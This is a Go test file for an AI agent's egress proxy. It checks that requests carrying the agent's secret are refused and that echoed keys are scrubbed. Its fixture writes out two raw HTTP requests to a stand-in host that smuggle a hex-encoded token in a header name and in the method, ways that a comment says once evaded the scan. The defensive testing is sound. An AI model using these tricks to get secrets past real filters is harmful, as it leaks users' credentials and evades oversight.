package egress

import (
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// outsideAttack is a request that carries a secret the agent holds and
// must be refused before it reaches the upstream.
type outsideAttack struct{ name, host, raw string }

// outsideAttacks were written from the protocols, not from the corpora;
// each got its secret out before the change that names it.
func outsideAttacks() []outsideAttack {
	const F = "files.example.test"
	tok := outsideGitHub
	h := hex.EncodeToString([]byte(tok))
	return []outsideAttack{
		// Places the scan did not look at: any token is a valid method and
		// header name, and both reach the upstream as sent.
		{"a header's name", F, "GET / HTTP/1.1\nHost: " + F + "\nX-D-" + h + ": 1\n\n"},
		{"the method", F, h + " / HTTP/1.1\nHost: " + F + "\n\n"},
	}
}

// TestOutsideAttacksAreRefused: each attack gets the proxy's 403 and
// never reaches the upstream; the audit does not hold the secret.
func TestOutsideAttacksAreRefused(t *testing.T) {
	o := newOutside(t)
	for _, c := range outsideAttacks() {
		t.Run(c.name, func(t *testing.T) {
			before := o.up.count()
			st, body := o.send(t, c.host, c.raw)
			if st != 403 || o.up.count() != before {
				t.Errorf("got out: status %d, upstream saw %d new requests: %.200s", st, o.up.count()-before, body)
			}
		})
	}
	audit, _ := os.ReadFile(filepath.Join(o.dir, AuditFile))
	if h := hex.EncodeToString([]byte(outsideGitHub)); strings.Contains(string(audit), h[:24]) {
		t.Errorf("the audit holds the secret: %s", audit)
	}
}

// TestOutsideEchoIsScrubbed: an upstream that echoes the injected key
// escaped, as JSON, HTML or JavaScript writes its '/' and '+', hands the
// agent the placeholder; so does one that trickles it out a byte at a time.
func TestOutsideEchoIsScrubbed(t *testing.T) {
	o := newOutside(t)
	const A = "api.example.test"
	unescape := strings.NewReplacer(`\/`, "/", "&#43;", "+", "&#x2F;", "/", `\u002f`, "/", `\u002F`, "/", `\u002b`, "+")
	for _, p := range []string{"/echo/php", "/echo/html", "/echo/js", "/echo/trickle"} {
		st, body := o.send(t, A, "GET "+p+" HTTP/1.1\nHost: "+A+"\nx-api-key: bottle-placeholder\n\n")
		if st != 200 || strings.Contains(unescape.Replace(body), outsideSecret) || !strings.Contains(body, Placeholder) {
			t.Errorf("%s: status %d, the agent read %q", p, st, body)
		}
	}
}
